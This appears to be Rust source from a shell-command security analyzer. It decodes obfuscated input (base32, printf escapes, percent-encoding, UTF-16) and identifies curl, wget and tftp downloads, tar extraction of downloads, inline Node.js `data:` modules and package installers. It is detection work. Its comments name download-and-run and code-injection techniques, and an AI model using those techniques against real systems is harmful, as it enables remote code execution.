fn translated(args: &[String], input: &str) -> Option<String> {
    let [from, to] = args else { return None };
    if from.starts_with('-') || to.starts_with('-') || from.contains("[:") || to.contains("[:") {
        return None;
    }
    let expand = |set: &str| -> Vec<char> {
        let chars: Vec<char> = set.chars().collect();
        let mut out = Vec::new();
        let mut i = 0;
        while i < chars.len() {
            if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i] <= chars[i + 2] {
                out.extend(chars[i]..=chars[i + 2]);
                i += 3;
            } else {
                out.push(chars[i]);
                i += 1;
            }
        }
        out
    };
    let (from, to) = (expand(from), expand(to));
    let last = *to.last()?;
    Some(
        input
            .chars()
            .map(|c| match from.iter().position(|&f| f == c) {
                Some(p) => to.get(p).copied().unwrap_or(last),
                None => c,
            })
            .collect(),
    )
}

/// RFC 4648 base32 (`base32 -d`), padding and whitespace ignored.
fn base32_decode(input: &str) -> Option<Vec<u8>> {
    let mut bits = 0u64;
    let mut n = 0;
    let mut out = Vec::new();
    for c in input
        .bytes()
        .filter(|c| !c.is_ascii_whitespace() && *c != b'=')
    {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'2'..=b'7' => c - b'2' + 26,
            _ => return None,
        };
        bits = (bits << 5) | u64::from(v);
        n += 5;
        if n >= 8 {
            n -= 8;
            out.push((bits >> n) as u8);
            bits &= (1 << n) - 1;
        }
    }
    Some(out)
}

/// What `echo`/`printf` with literal arguments prints (used for `$(echo x)` and `echo x | sh`).
fn echo_output(argv: &[String]) -> Option<String> {
    let prog = basename(argv.first()?);
    let args = &argv[1..];
    if args.iter().any(|a| a.contains(DYNAMIC)) {
        return None;
    }
    match prog {
        "echo" => {
            let mut rest = args;
            let mut escapes = false;
            while let Some((first, tail)) = rest.split_first() {
                if first.len() > 1
                    && first.starts_with('-')
                    && first[1..].bytes().all(|c| matches!(c, b'n' | b'e' | b'E'))
                {
                    escapes |= first.contains('e');
                    rest = tail;
                } else {
                    break;
                }
            }
            let joined = rest.join(" ");
            Some(if escapes {
                unescape_printf(&joined)
            } else {
                joined
            })
        }
        "printf" => {
            let (fmt, rest) = args.split_first()?;
            let fmt = unescape_printf(fmt);
            if rest.is_empty() {
                return Some(fmt.replace("%%", "%"));
            }
            // One conversion: printf applies the format to each argument in turn
            // (`printf '%s\n' /bin /lib` prints two lines).
            for conv in ["%s", "%b"] {
                if let Some(tail) = fmt.strip_prefix(conv).filter(|t| !t.contains('%')) {
                    // `%b` expands the backslash escapes of its argument as echo -e does.
                    return Some(
                        rest.iter()
                            .map(|a| {
                                let a = if conv == "%b" {
                                    unescape_printf(a)
                                } else {
                                    a.clone()
                                };
                                format!("{a}{tail}")
                            })
                            .collect(),
                    );
                }
            }
            if fmt.contains("%s") && !fmt.contains('%') {
                return None;
            }
            Some(format!("{fmt} {}", rest.join(" ")))
        }
        _ => None,
    }
}

fn unescape_printf(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' && i + 1 < b.len() {
            let e = b[i + 1];
            i += 2;
            match e {
                b'n' => out.push(b'\n'),
                b't' => out.push(b'\t'),
                b'\\' => out.push(b'\\'),
                b'x' => {
                    let mut v = 0u32;
                    let mut n = 0;
                    while n < 2 && i < b.len() {
                        let Some(d) = char::from(b[i]).to_digit(16) else {
                            break;
                        };
                        v = v * 16 + d;
                        i += 1;
                        n += 1;
                    }
                    out.push((v & 0xff) as u8);
                }
                // `\uXXXX` and `\UXXXXXXXX` (bash's printf and `echo -e`).
                b'u' | b'U' => {
                    let max = if e == b'u' { 4 } else { 8 };
                    let digits = b[i..]
                        .iter()
                        .take(max)
                        .take_while(|c| c.is_ascii_hexdigit())
                        .count();
                    let value = std::str::from_utf8(&b[i..i + digits])
                        .ok()
                        .and_then(|h| u32::from_str_radix(h, 16).ok())
                        .and_then(char::from_u32);
                    match value {
                        Some(c) => {
                            let mut buf = [0u8; 4];
                            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                            i += digits;
                        }
                        None => {
                            out.push(b'\\');
                            out.push(e);
                        }
                    }
                }
                b'0'..=b'7' => {
                    let mut v = u32::from(e - b'0');
                    let mut n = 0;
                    while n < 3 && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
                        v = v * 8 + u32::from(b[i] - b'0');
                        i += 1;
                        n += 1;
                    }
                    out.push((v & 0xff) as u8);
                }
                other => {
                    out.push(b'\\');
                    out.push(other);
                }
            }
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The URL a downloader fetches and the file it saves it to: `curl -o F URL`, `curl -O URL`
/// (the URL's last path segment), `wget -O F URL`, `wget URL` (likewise), or the command's
/// stdout redirected to a file. `None` when the file goes to stdout or cannot be told.
/// `arg` is a bundle of single-letter flags (`-fsSL`) that contains `flag`.
fn bundled_flag(arg: &str, flag: u8) -> bool {
    arg.len() > 2
        && arg.starts_with('-')
        && !arg.starts_with("--")
        && arg[1..].bytes().all(|b| b.is_ascii_alphabetic())
        && arg.as_bytes()[1..].contains(&flag)
}

/// `arg` is a bundle of single-letter flags that ends with `opt` (`-so`), so the next
/// argument is `opt`'s value.
fn bundled_last(arg: &str, opt: u8) -> bool {
    bundled_flag(arg, opt) && arg.as_bytes().last() == Some(&opt)
}

fn download_target(cmd: &SimpleCommand) -> Option<(String, String)> {
    let prog = basename(cmd.argv.first()?);
    let args = &cmd.argv[1..];
    if prog == "tftp" {
        return tftp_get(args);
    }
    let url = args
        .iter()
        .find(|a| a.contains("://") && !a.starts_with('-'))?
        .to_string();
    let last_segment = || {
        let path = url.split(['?', '#']).next().unwrap_or(&url);
        let seg = path.rsplit('/').next().unwrap_or("");
        (!seg.is_empty() && !path.ends_with("//")).then(|| seg.to_string())
    };
    let value_of = |short: &str, long: &str| {
        args.iter().enumerate().find_map(|(i, a)| {
            if a == short || a == long {
                args.get(i + 1).cloned()
            } else if let Some(v) = a.strip_prefix(&format!("{long}=")) {
                Some(v.to_string())
            } else if short.len() == 2 && bundled_last(a, short.as_bytes()[1]) {
                // `curl -so FILE URL`: the option closes a bundle of flags.
                args.get(i + 1).cloned()
            } else {
                a.strip_prefix(short)
                    .filter(|v| !v.is_empty() && short.len() == 2)
                    .map(str::to_string)
            }
        })
    };
    let to_file = match prog {
        "curl" => value_of("-o", "--output").or_else(|| {
            args.iter()
                .any(|a| a == "-O" || a == "--remote-name" || bundled_flag(a, b'O'))
                .then(last_segment)
                .flatten()
        }),
        "wget" => match value_of("-O", "--output-document") {
            Some(f) if f == "-" => None,
            Some(f) => Some(f),
            // `-P DIR` puts the file under DIR.
            None => match (value_of("-P", "--directory-prefix"), last_segment()) {
                (Some(dir), Some(name)) => Some(format!("{}/{name}", dir.trim_end_matches('/'))),
                (_, name) => name,
            },
        },
        "aria2c" => {
            let name = value_of("-o", "--out").or_else(last_segment);
            match (value_of("-d", "--dir"), name) {
                (Some(dir), Some(name)) if !name.starts_with('/') => {
                    Some(format!("{}/{name}", dir.trim_end_matches('/')))
                }
                (_, name) => name,
            }
        }
        "fetch" => value_of("-o", "--out").or_else(last_segment),
        _ => return None,
    };
    let redirected = cmd
        .redirects
        .iter()
        .find(|r| matches!(r.kind, RedirKind::Write) && r.target != "/dev/null")
        .map(|r| r.target.clone());
    let target = to_file.filter(|f| f != "-").or(redirected)?;
    Some((url, target))
}

/// `tftp HOST -c get REMOTE [LOCAL]` (or `-c get HOST:REMOTE`): the file fetched and where it
/// lands (LOCAL, else REMOTE's last segment).
fn tftp_get(args: &[String]) -> Option<(String, String)> {
    // busybox: `tftp -g -r REMOTE [-l LOCAL] HOST`.
    if args.iter().any(|a| a == "-g") {
        let value = |flag: &str| {
            args.iter()
                .position(|a| a == flag)
                .and_then(|i| args.get(i + 1))
        };
        let remote = value("-r")?;
        let local = value("-l").unwrap_or(remote);
        let host = args
            .iter()
            .rev()
            .find(|a| !a.starts_with('-') && *a != remote && *a != local)?;
        let target = local.rsplit('/').next().filter(|n| !n.is_empty())?;
        let target = if local.contains('/') {
            local.clone()
        } else {
            target.to_string()
        };
        return Some((format!("tftp://{host}/{remote}"), target));
    }
    let at = args
        .windows(2)
        .position(|w| w[0] == "-c" && w[1] == "get")?;
    let host = args[..at].iter().find(|a| !a.starts_with('-'));
    let remote = args.get(at + 2)?;
    let local = args.get(at + 3).unwrap_or(remote);
    let name = local.rsplit([':', '/']).next().filter(|n| !n.is_empty())?;
    let target = if local.contains('/') {
        local.clone()
    } else {
        name.to_string()
    };
    let url = match host {
        Some(h) => format!("tftp://{h}/{remote}"),
        None => format!("tftp://{remote}"),
    };
    Some((url, target))
}

/// The directory `tar` unpacks into when what it unpacks is a download: fed by `curl`/`wget`
/// on its stdin, or `-f` naming a file this input downloaded. `None` otherwise.
fn unpacked_download_dir(cmd: &SimpleCommand, scripts: &HashMap<String, String>) -> Option<String> {
    let prog = basename(cmd.argv.first()?);
    if !matches!(prog, "tar" | "bsdtar" | "gtar") {
        return None;
    }
    let args = &cmd.argv[1..];
    let first = args.first()?;
    let bundle = |a: &str| {
        !a.starts_with("--")
            && a.trim_start_matches('-')
                .starts_with(|c: char| c.is_ascii_alphabetic())
    };
    let extracts = args.iter().any(|a| a == "--extract" || a == "--get")
        || (bundle(first) && first.trim_start_matches('-').contains('x'))
        || args
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('x'));
    if !extracts {
        return None;
    }
    let file = args.iter().enumerate().find_map(|(i, a)| {
        if a == "--file" {
            args.get(i + 1).cloned()
        } else if let Some(v) = a.strip_prefix("--file=") {
            Some(v.to_string())
        } else if a.starts_with('-') && !a.starts_with("--") && a.ends_with('f')
            || (i == 0 && bundle(a) && a.ends_with('f'))
        {
            args.get(i + 1).cloned()
        } else {
            None
        }
    });
    let downloaded = match &file {
        Some(f) if f != "-" => scripts
            .get(&normalize_path(f, cmd.cwd.as_deref()))
            .is_some_and(|t| t.starts_with("curl -fsSL ")),
        _ => cmd.piped_from.iter().any(|p| {
            matches!(
                p.as_str(),
                "curl" | "wget" | "aria2c" | "fetch" | "ftp" | "tftp"
            )
        }),
    };
    if !downloaded {
        return None;
    }
    let dir = args.iter().enumerate().find_map(|(i, a)| {
        if a == "-C" || a == "--directory" {
            args.get(i + 1).cloned()
        } else if let Some(v) = a.strip_prefix("--directory=") {
            Some(v.to_string())
        } else {
            a.strip_prefix("-C")
                .filter(|v| !v.is_empty())
                .map(str::to_string)
        }
    });
    Some(dir.unwrap_or_else(|| cmd.cwd.clone().unwrap_or_else(|| ".".to_string())))
}

/// The inline modules of a `NODE_OPTIONS` value (`--import=data:text/javascript,CODE`, also
/// `--require`/`--loader`, percent-encoded or base64), as their code. Node splits the value
/// at spaces outside quotes; a module is read to the end of the value, a guess that may take
/// in the options after it.
fn data_modules(value: &str) -> impl Iterator<Item = String> + '_ {
    value.match_indices("data:").filter_map(|(at, _)| {
        let (kind, body) = value[at + 5..].split_once(',')?;
        if kind.ends_with(";base64") {
            let body = body.split_whitespace().next()?;
            let bytes = super::hidden::base64_bytes(body)?;
            return Some(String::from_utf8_lossy(&bytes).into_owned());
        }
        Some(percent_decode(body))
    })
}

/// `%XX` escapes decoded; anything that is not one is kept as it is.
fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = b
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok());
        match (b[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(v)) => {
                out.push(v);
                i += 3;
            }
            (c, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Programs that install a package file given as an argument, running its scripts.
const PACKAGE_INSTALLERS: &[&str] = &[
    "dpkg",
    "apt",
    "apt-get",
    "rpm",
    "dnf",
    "yum",
    "zypper",
    "pacman",
    "apk",
    "pip",
    "pip3",
    "pipx",
    "npm",
    "pnpm",
    "yarn",
    "gem",
    "installer",
    "snap",
    "flatpak",
];

/// `sed` of literal text, when its script is only substitutions of plain text (`s/Q//g`,
/// `s|x|y|`) and transliterations (`y/abc/xyz/`), separated by `;` or given as several `-e`.
/// Any other command, option or regular-expression character: unknown.
fn sed_literal(args: &[String], input: &str) -> Option<String> {
    let mut scripts = Vec::new();
    let mut rest = args.iter();
    while let Some(a) = rest.next() {
        match a.as_str() {
            "-e" | "--expression" => scripts.push(rest.next()?.as_str()),
            s if s.starts_with('-') => return None,
            s if scripts.is_empty() => scripts.push(s),
            // A file operand: sed reads it, not stdin.
            _ => return None,
        }
    }
    let mut text = input.to_string();
    for script in scripts.iter().flat_map(|s| s.split(';')) {
        let script = script.trim();
        if script.is_empty() {
            continue;
        }
        let mut chars = script.chars();
        let cmd = chars.next()?;
        let delim = chars.next()?;
        if delim.is_alphanumeric() || delim == '\\' {
            return None;
        }
        let parts: Vec<&str> = chars.as_str().split(delim).collect();
        let plain = |p: &str| !p.contains(['\\', '.', '*', '[', ']', '^', '$', '&']);
        match (cmd, parts.as_slice()) {
            ('s', [from, to, flags]) if plain(from) && plain(to) && !from.is_empty() => {
                text = match *flags {
                    "g" => text.replace(from, to),
                    "" => text
                        .lines()
                        .map(|l| l.replacen(from, to, 1))
                        .collect::<Vec<_>>()
                        .join("\n"),
                    _ => return None,
                };
            }
            ('y', [from, to, ""]) if plain(from) && plain(to) => {
                let (from, to): (Vec<char>, Vec<char>) =
                    (from.chars().collect(), to.chars().collect());
                if from.len() != to.len() {
                    return None;
                }
                text = text
                    .chars()
                    .map(|c| from.iter().position(|f| *f == c).map_or(c, |i| to[i]))
                    .collect();
            }
            _ => return None,
        }
    }
    Some(text)
}

/// `iconv -f UTF-16LE -t UTF-8` (also `UTF-16`, `UCS-2LE`, `--from-code=`) of literal text.
fn utf16_text(args: &[String], input: &str) -> Option<String> {
    let from = args.iter().enumerate().find_map(|(i, a)| {
        if a == "-f" || a == "--from-code" {
            args.get(i + 1).map(String::as_str)
        } else {
            a.strip_prefix("--from-code=")
                .or_else(|| a.strip_prefix("-f").filter(|v| !v.is_empty()))
        }
    })?;
    let from = from.to_ascii_uppercase().replace(['-', '_'], "");
    if !matches!(from.as_str(), "UTF16LE" | "UTF16" | "UCS2LE" | "UCS2") {
        return None;
    }
    let b: Vec<u16> = input
        .as_bytes()
        .chunks(2)
        .map(|p| u16::from_le_bytes([p[0], *p.get(1).unwrap_or(&0)]))
        .collect();
    String::from_utf16(&b).ok()
}
